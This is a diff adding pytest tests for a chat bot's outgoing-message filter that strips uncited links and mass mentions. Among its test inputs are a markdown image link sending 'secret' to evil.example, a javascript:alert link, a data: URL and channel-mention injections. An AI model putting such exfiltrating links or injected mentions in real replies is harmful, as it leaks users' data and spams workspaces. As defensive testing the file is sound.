@@ -1,0 +1,54 @@
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from vigilbot.safety.outgoing import REMOVED, gated
+
+SHARED = Path(__file__).parents[3] / "shared" / "data" / "security"
+LIVE_MENTION = re.compile(r"<[!@#][^>]*>|@(?:channel|here|everyone)\b", re.IGNORECASE)
+SOURCE = "https://docs.example/page"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("see https://docs.example/page.", "see https://docs.example/page."),
+        ("see [the page](https://docs.example/page)", "see the page (https://docs.example/page)"),
+        ("see <https://docs.example/page|the page>", "see the page (https://docs.example/page)"),
+        ("see https://evil.example/x, now", f"see {REMOVED}, now"),
+        ("see [docs](https://evil.example/x)", f"see docs {REMOVED}"),
+        ("![x](https://evil.example/leak?q=secret)", f"x {REMOVED}"),
+        ("see <https://evil.example|https://docs.example/page>", f"see https://docs.example/page {REMOVED}"),
+        ("[a](javascript:alert(1)) data:text/html,x", f"a {REMOVED} {REMOVED}"),
+        ("write to mailto:a@evil.example", f"write to {REMOVED}"),
+        ("it is at https://quoted.example/a", "it is at `quoted.example/a`"),
+        ("run `apt install x` and 5 < 6 > 4", "run `apt install x` and 5 < 6 > 4"),
+    ],
+)
+def test_only_cited_sources_stay_links(text: str, expected: str) -> None:
+    assert gated(text, {SOURCE}, "it is at https://quoted.example/a") == expected
+
+
+@pytest.mark.parametrize(
+    "text", ["<!channel> hi", "<!here|x>", "<@U123ABC> look", "<!subteam^S1|@ops>", "@here", "@Everyone", "＠channel"]
+)
+def test_no_mention_survives(text: str) -> None:
+    assert not LIVE_MENTION.search(gated(text, set(), ""))
+
+
+def test_no_mention_survives_in_naughty_strings() -> None:
+    for text in json.loads((SHARED / "strings" / "blns.json").read_text("utf-8")):
+        assert not LIVE_MENTION.search(gated(f"{text} <!channel>{text}@here {text}", set(), ""))
+
+
+@given(st.text(alphabet="<>!@#|[]()chanelr h:/tps.U1^`\n\u200b", max_size=60))
+def test_whatever_is_written_no_mention_and_no_foreign_link_comes_out(text: str) -> None:
+    out = gated(text, {SOURCE}, "")
+    assert not LIVE_MENTION.search(out)
+    assert not re.search(r"https?://[a-z]", out)
